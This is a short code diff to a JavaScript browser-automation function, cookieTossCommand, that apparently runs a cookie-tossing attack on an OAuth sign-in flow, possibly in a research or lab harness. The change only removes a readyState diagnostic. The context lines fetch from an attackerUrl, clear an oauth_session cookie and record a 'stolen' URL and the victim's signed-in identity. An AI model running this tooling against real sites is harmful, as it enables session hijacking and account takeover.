@@ -171,7 +171,6 @@ async function cookieTossCommand(windows, { authUrl, attackerUrl, form }) {
       url: location.href,
       heading: document.querySelector('h1')?.textContent,
       text: document.body?.innerText.slice(0, 200), // said when there is no heading to read
-      state: document.readyState,
       status: performance.getEntriesByType('navigation')[0]?.responseStatus,
     }));
     const { data: log } = await (await fetch(`${attackerUrl}/count/${tag}`)).json();
@@ -182,7 +181,7 @@ async function cookieTossCommand(windows, { authUrl, attackerUrl, form }) {
     await tab.evaluate((to) => (document.cookie = `oauth_session=; path=${new URL(to).pathname}; max-age=0`), action);
     await tab.goto(authUrl);
     const signedInAs = await tab.evaluate(() => /Signed in as (.+?) \(/.exec(document.querySelector('main').textContent)?.[1] ?? 'nobody');
-    return { status: landed.status || undefined, heading: landed.heading ?? `${landed.url} (no h1; readyState ${landed.state}; text: ${JSON.stringify(landed.text)})`, stolen: stolenUrl && `${attackerUrl}/h/${tag}${stolenUrl}`, signedInAs };
+    return { status: landed.status || undefined, heading: landed.heading ?? `${landed.url} (no h1; text: ${JSON.stringify(landed.text)})`, stolen: stolenUrl && `${attackerUrl}/h/${tag}${stolenUrl}`, signedInAs };
   } finally {
     await tab.close().catch(() => {});
   }
